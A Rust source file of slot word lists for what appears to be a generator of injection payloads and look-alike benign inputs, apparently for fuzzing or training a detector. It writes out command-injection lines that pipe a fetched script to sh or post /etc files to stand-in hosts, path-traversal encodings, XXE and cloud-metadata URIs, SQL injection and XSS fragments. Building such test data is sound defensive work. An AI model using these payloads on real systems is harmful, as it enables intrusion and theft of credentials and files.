//! Lists for the generator's slots; ` ¦ ` separates choices.

/// By the name of the slot.
pub(super) const LISTS: &[(&str, &str)] = &[
    ("jndi", "ldap ¦ ldaps ¦ rmi ¦ dns ¦ iiop ¦ http"),
    ("host", "«w».com ¦ «w».evil.org ¦ «n».«n».«n».«n» ¦ «h».oast.fun ¦ x.«w».net:«n»"),
    ("sep", "; ¦ | ¦ || ¦ & ¦ && ¦ %0a ¦ ;; ¦  | "),
    ("tail", "; ¦ | ¦ # ¦ & ¦ ;# ¦  2>&1"),
    (
        "cmd",
        "id ¦ whoami ¦ uname -a ¦ cat /etc/«file» ¦ ls ¦ ls -la ¦ ls -la / ¦ ping -c «n» «host» ¦ sleep «n» ¦ wget http://«host»/«w» ¦ curl http://«host»/«w» ¦ curl -s «host»|sh ¦ nslookup «host» ¦ /bin/cat /etc/«file» ¦ /usr/bin/id ¦ echo «w» ¦ echo «h» ¦ netstat -an ¦ ps aux ¦ ifconfig ¦ head /etc/«file» ¦ nc «host» «n» ¦ pwd ¦ env ¦ touch /tmp/«w» ¦ rm -rf /tmp/«w» ¦ python3 -c 'print(«n»)' ¦ hostname ¦ expr «n» + «n» ¦ set ¦ printenv",
    ),
    (
        "wincmd",
        "dir c:\\ ¦ dir ¦ type c:\\windows\\win.ini ¦ type %SYSTEMROOT%\\win.ini ¦ ipconfig /all ¦ net user ¦ net user «w» «w» /add ¦ systeminfo ¦ tasklist ¦ ping -n «n» 127.0.0.1 ¦ whoami /all ¦ timeout «n» ¦ echo %USERNAME% ¦ ver",
    ),
    (
        "cmdpath",
        "/bin/cat /etc/«file» ¦ /usr/bin/whoami ¦ /bin/ls -al ¦ cat /etc/«file» ¦ /bin/sh -c id ¦ ping -c «n» 127.0.0.1 ¦ wget http://«host»/«w».sh -O /tmp/«w» ¦ curl -d @/etc/«file» http://«host»",
    ),
    ("phpfn", "system ¦ exec ¦ passthru ¦ shell_exec ¦ popen ¦ eval ¦ assert"),
    (
        "file",
        "passwd ¦ shadow ¦ hosts ¦ group ¦ issue ¦ hostname ¦ resolv.conf ¦ crontab ¦ fstab ¦ ssh/sshd_config ¦ apache2/apache2.conf ¦ nginx/nginx.conf ¦ mysql/my.cnf ¦ php.ini ¦ motd ¦ sudoers",
    ),
    ("proc", "environ ¦ cmdline ¦ maps ¦ fd/«n» ¦ status ¦ version"),
    (
        "log",
        "apache2/access.log ¦ apache/error_log ¦ nginx/error.log ¦ auth.log ¦ syslog ¦ httpd/access_log ¦ mail.log ¦ messages",
    ),
    ("ext", "html ¦ jpg ¦ png ¦ pdf ¦ php ¦ txt ¦ css ¦ js ¦ gif ¦ zip"),
    (
        "root",
        "var ¦ usr ¦ usr/local ¦ opt ¦ root ¦ proc ¦ etc ¦ tmp ¦ var/www ¦ var/log ¦ usr/local/apache ¦ boot ¦ opt/lampp ¦ volumes",
    ),
    (
        "serverdir",
        "xampp ¦ wamp ¦ inetpub ¦ Program Files\\«W» ¦ Program Files (x86)\\«W» ¦ ProgramData ¦ apache2 ¦ apache ¦ logs ¦ windows ¦ php",
    ),
    ("own", "log ¦ ini ¦ conf ¦ cnf ¦ cfg ¦ err ¦ bak ¦ xml ¦ sys ¦ dat"),
    ("drive", "c: ¦ C: ¦ d: ¦ D: ¦ C:\\windows ¦ C:/xampp ¦ c:\\apache"),
    (
        "climb",
        "../ ¦ ../../ ¦ ../../../ ¦ ../../../../../../ ¦ ..\\..\\..\\ ¦ ....//....//....// ¦ ..%2f..%2f..%2f ¦ %2e%2e%2f%2e%2e%2f ¦ ..%252f..%252f ¦ %252e%252e%255c ¦ ..%c0%af..%c0%af ¦ %c0%ae%c0%ae/%c0%ae%c0%ae/ ¦ ..;/..;/ ¦ ..//..// ¦ .../.../ ¦ %u002e%u002e%u2215 ¦ ..%5c ¦ .%2e/.%2e/ ¦ ..\\/..\\/ ¦ ..././..././ ¦ /%5C../%5C../",
    ),
    (
        "target",
        "etc/passwd ¦ etc/shadow ¦ etc/hosts ¦ etc/«file» ¦ windows/win.ini ¦ boot.ini ¦ winnt/win.ini ¦ proc/self/environ ¦ var/log/«log» ¦ WEB-INF/web.xml ¦ «w».php ¦ «w»/config.«ext» ¦ .env ¦ .htaccess ¦ root/.ssh/id_rsa ¦ home/«w»/.bash_history ¦ usr/local/apache2/conf/httpd.conf",
    ),
    (
        "wintarget",
        "win.ini ¦ boot.ini ¦ system32\\drivers\\etc\\hosts ¦ system32\\config\\SAM ¦ inetpub\\logs\\LogFiles ¦ windows\\system.ini ¦ php\\php.ini ¦ xampp\\apache\\logs\\access.log ¦ repair\\sam",
    ),
    (
        "xxe",
        "file:///etc/«file» ¦ file:///c:/windows/win.ini ¦ http://«host»/«w».dtd ¦ php://filter/read=convert.base64-encode/resource=/etc/«file» ¦ http://169.254.169.254/latest/meta-data/ ¦ expect://id ¦ ftp://«host»/«w» ¦ netdoc:///etc/«file»",
    ),
    ("upper", "INFO ¦ ERROR ¦ WARN ¦ LOGIN ¦ SIGNED ¦ ADMIN ¦ USER ¦ ALERT"),
    (
        "brk",
        "' ¦ \" ¦ ') ¦ \") ¦ ')) ¦ «n»' ¦ «n») ¦ «n»') ¦ «w»' ¦ «w»\" ¦ -«n»' ¦ \\' ¦ %27 ¦ ` ¦ ';",
    ),
    ("sp", "  ¦   ¦   ¦ /**/ ¦ + ¦ %20 ¦ %09 ¦ %0a ¦ /*«w»*/"),
    ("bool", "or ¦ and ¦ OR ¦ AND ¦ || ¦ && ¦ xor ¦ oR ¦ or not"),
    (
        "truth",
        "«n»=«n» ¦ 1=1 ¦ '1'='1 ¦ '«w»'='«w» ¦ ''=' ¦ 1 ¦ true ¦ \"1\"=\"1 ¦ ('«w»'='«w» ¦ 1=1 limit 1 ¦ «n»>«n» ¦ «n» between «n» and «n» ¦ '«w»' like '«w»% ¦ 1 like 1 ¦ «n»<>«n» ¦ 2>1 ¦ 1 in (1) ¦ «w» is null ¦ exists(select «n») ¦ «sqlfn»=«n»",
    ),
    (
        "numtruth",
        "«n»=«n» ¦ 1=1 ¦ 1=2 ¦ «n»>«n» ¦ («n»=«n» ¦ «n» like «n» ¦ «n» between 1 and «n» ¦ 'a'='a' ¦ true ¦ not false ¦ 1=1 limit «n»",
    ),
    ("end", "-- ¦  -- - ¦ # ¦ --+ ¦ /* ¦ ;-- ¦  --  ¦ -- «w» ¦ ;%00 ¦ ) -- ¦ %23"),
    ("all", " ¦ all  ¦ distinct  ¦ all/**/"),
    (
        "cols",
        "«n» ¦ 1,2,3 ¦ null,null ¦ null,null,null,null ¦ 1,«sqlfn»,3 ¦ «w»,«w» ¦ * ¦ null,concat(«w»,0x3a,«w»),null ¦ @@version,2 ¦ 'a','b',3 ¦ 1,group_concat(table_name),3",
    ),
    ("from", " from «systable» ¦  from «w» ¦  from dual ¦  ¦ /**/from/**/«w» ¦  from «w».«w»"),
    (
        "systable",
        "information_schema.tables ¦ information_schema.columns ¦ mysql.user ¦ sysobjects ¦ sqlite_master ¦ pg_catalog.pg_tables ¦ all_tables ¦ users ¦ «w»",
    ),
    (
        "stmt",
        "drop table «w» ¦ delete from «w» ¦ insert into «w» values(«n»,'«w»') ¦ update «w» set «w»='«w»' ¦ exec master..xp_cmdshell 'dir' ¦ exec xp_cmdshell('«w»') ¦ shutdown ¦ waitfor delay '0:0:«n»' ¦ select pg_sleep(«n») ¦ select * from «w» ¦ declare @«w» varchar(99) ¦ create table «w»(«w» int) ¦ alter table «w» add «w» int ¦ truncate table «w» ¦ select sleep(«n»)",
    ),
    (
        "sqlfn",
        "version() ¦ user() ¦ database() ¦ @@version ¦ count(*) ¦ sleep(«n») ¦ ascii(substr(user(),1,1)) ¦ length(database()) ¦ char(«n»)||char(«n») ¦ concat(0x7e,version()) ¦ (select top 1 «w» from «w») ¦ current_user ¦ substring(@@version,1,1) ¦ load_file('/etc/passwd') ¦ extractvalue(1,concat(0x5c,user())) ¦ cast(«w» as int) ¦ convert(int,@@version) ¦ updatexml(1,concat(0x7e,user()),1)",
    ),
    (
        "time",
        "sleep(«n») ¦ pg_sleep(«n») ¦ benchmark(«n»000000,md5(1)) ¦ waitfor delay '0:0:«n»' ¦ (select sleep(«n»)) ¦ dbms_pipe.receive_message('«w»',«n») ¦ (select 1 from pg_sleep(«n»)) ¦ if(1=1,sleep(«n»),0) ¦ randomblob(«n»00000000)",
    ),
    ("cmp", "> ¦ < ¦ = ¦ !="),
    (
        "tag",
        "img ¦ svg ¦ body ¦ iframe ¦ input ¦ video ¦ audio ¦ details ¦ object ¦ embed ¦ marquee ¦ a ¦ div ¦ select ¦ textarea ¦ button ¦ form ¦ x ¦ math ¦ style ¦ p ¦ b ¦ table ¦ keygen ¦ isindex ¦ «w»",
    ),
    (
        "handler",
        "onerror ¦ onload ¦ onclick ¦ onmouseover ¦ onfocus ¦ onblur ¦ ontoggle ¦ onstart ¦ onpointerenter ¦ onanimationstart ¦ onpageshow ¦ onhashchange ¦ onresize ¦ oninput ¦ onkeydown ¦ onbegin ¦ OnErRoR ¦ onwheel ¦ oncopy ¦ ondrag ¦ onscroll ¦ onloadstart",
    ),
    (
        "js",
        "alert(1) ¦ alert(«n») ¦ alert('XSS') ¦ alert(document.cookie) ¦ alert(document.domain) ¦ prompt(1) ¦ confirm(«n») ¦ alert`1` ¦ eval(name) ¦ (alert)(1) ¦ window.location='http://«host»' ¦ document.write('<b>«w»</b>') ¦ console.log(«n») ¦ al\\u0065rt(1) ¦ [1].find(alert) ¦ top['alert'](1) ¦ self.alert(1) ¦ throw onerror=alert,1 ¦ import('//«host»') ¦ eval(location.hash.slice(1)) ¦ alert(String.fromCharCode(88,83,83)) ¦ print() ¦ alert&lpar;1&rpar; ¦ parent.alert(1) ¦ setTimeout(alert,0) ¦ «w»()",
    ),
    (
        "name",
        "O'Brien ¦ O'Neill ¦ D'Angelo ¦ L'Oreal ¦ McDonald's ¦ N'Golo ¦ O'Reilly ¦ D'Arcy ¦ Levi's ¦ Sainsbury's ¦ Domino's ¦ Moody's ¦ d'Artagnan ¦ L'Hôpital ¦ Ka'ahumanu ¦ «W» O'«W» ¦ «W» d'«W» ¦ Al-«W» ¦ «W»-«W» ¦ «W» (née «W») ¦ Ng'ang'a ¦ Sa'id ¦ Shi'a ¦ Qur'an ¦ «W» \"«W»\" «W»",
    ),
    (
        "contraction",
        "don't ¦ isn't ¦ it's ¦ I'm ¦ we're ¦ can't ¦ won't ¦ you'll ¦ they've ¦ who's ¦ let's ¦ that's ¦ y'all ¦ o'clock ¦ doesn't ¦ I'd ¦ '90s ¦ fish 'n' chips",
    ),
    (
        "shop",
        "select «w» from «w» ¦ select size from table ¦ union jack flag ¦ union square hotel ¦ drop leaf table ¦ drop table lamp ¦ drop shipping ¦ table and chairs ¦ order by phone ¦ order by «w» ¦ group by «w» ¦ insert sole ¦ update «w» 2026 ¦ delete account ¦ create table plan ¦ where to buy «w» ¦ like new «w» ¦ black or white «w» ¦ black and white «w» ¦ «w» or «w» ¦ limited edition ¦ having fun ¦ top 10 «w» ¦ select comfort «w» ¦ student union «w» ¦ case for iphone «n» ¦ coffee table set ¦ cat bed ¦ cat food & toys ¦ sleep number bed ¦ sleep mask ¦ script font ¦ java script book ¦ window shade ¦ document scanner ¦ alert bracelet ¦ image frame ¦ base cabinet ¦ execute order «n» ¦ dump truck ¦ echo dot ¦ ping pong table ¦ shell necklace ¦ bash script tutorial ¦ python cookbook ¦ null modem cable ¦ char broil grill ¦ from dusk till dawn ¦ not like us ¦ all in one pc ¦ values of x ¦ exec chair ¦ declare war ¦ count on me ¦ head & shoulders ¦ more or less ¦ kill bill ¦ find my «w» ¦ id card holder ¦ who is who ¦ man cave sign ¦ file cabinet ¦ net 10 phone ¦ system of a down ¦ eval board ¦ style guide ¦ link bracelet ¦ object lesson ¦ frame 8x10 ¦ body wash ¦ and just like that ¦ or else ¦ «n» or «n» person tent ¦ size 8 and 10 ¦ is null ¦ between «n» and «n» dollars",
    ),
    (
        "code",
        "if (a < b && c > d) { return x; } ¦ for (let i = 0; i < «n»; i++) { «w»(i); } ¦ def «w»(x, y=None): ¦     return [«w» for «w» in «w» if «w» > «n»] ¦ const «w» = «w» => «w».«w»(«n»); ¦ let mut «w» = Vec::new(); ¦ fn «w»(«w»: &str) -> Result<(), Error> { ¦ print(f\"{«w»}: {«w»!r}\") ¦ import «w» from './«w»'; ¦ from «w» import «w» ¦ #include <«w».h> ¦ int main(void) { return 0; } ¦ public static void main(String[] args) { ¦ System.out.println(\"«w»\"); ¦ std::cout << \"«w»\" << std::endl; ¦ .«w» { color: #«n»; margin: 0 auto; } ¦ «w» = «w» ? '«w»' : \"«w»\"; ¦ try { «w»(); } catch (e) { «w»(e); } ¦ while (true) { break; } ¦ return «w» || «w»; ¦ «w».map(|x| x + «n») ¦ assert «w» == «n» ¦ x = x * «n» + «n» ¦ function «w»(a, b) { return a + b; } ¦ self.«w» = «w» ¦ #[derive(Debug, Clone)] ¦ package main ¦ type «W» struct { «w» string `json:\"«w»\"` } ¦ «w»: [«n», «n»] ¦ - name: «w» ¦ «w»=\"«w»\" ¦ export const «w» = { «w»: «n» }; ¦ // TODO: «text» ¦ console.log('«w»', «w»); ¦ \"«w»\": \"^«n».«n».«n»\", ¦ if «w» is not None and «w» != '': ¦ lambda x: x['«w»'] ¦ switch (x) { case 1: break; default: } ¦ std::unique_ptr<«W»> «w»; ¦ a[i] = b[j]; ¦ case \"«w»\": return «n»; ¦ echo \"Hello «w»\" ¦ x |= 1 << «n»; ¦ List<String> «w» = new ArrayList<>(); ¦ var «w» = document.title; ¦ git commit -m '«text»' ¦ npm install «w» --save-dev ¦ cargo build --release ¦ pip install «w»==«n».«n»",
    ),
    (
        "block",
        "«code»␤    «code»␤    «code»␤        «code»␤}␤«code» ¦ «code»␤«code»␤«code»␤«code»␤␤«code»␤«code»␤«code»␤«code» ¦ «w»(«w»)␤␤    /// «text»: «text»; «text».␤    «code»␤    «code»",
    ),
    (
        "html",
        "<p>«text»</p> ¦ <b>«w»</b> ¦ <a href=\"https://«w».com/«w»\">«w»</a> ¦ <ul><li>«w»</li><li>«w»</li></ul> ¦ <br/> ¦ <h2>«text»</h2> ¦ <img src=\"https://«w».com/«w».png\" alt=\"«w»\"> ¦ <div class=\"«w»\">«text»</div> ¦ <span style=\"color: red\">«w»</span> ¦ <em>«w»</em> ¦ <table><tr><td>«n»</td></tr></table> ¦ &lt;p&gt;«text»&lt;/p&gt; ¦ <blockquote>«text»</blockquote> ¦ <code>«w»</code> ¦ <strong>«w»</strong>&nbsp;«w» ¦ <p style=\"text-align: center;\">«text»</p> ¦ <figure><img src=\"/«w».jpg\" width=\"«n»\"></figure>",
    ),
    (
        "uuid",
        "1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed ¦ 7c9e6679-7425-40de-944b-e07fc1f90ae7 ¦ f47ac10b-58cc-4372-a567-0e02b2c3d479 ¦ 550e8400-e29b-41d4-a716-446655440000",
    ),
];
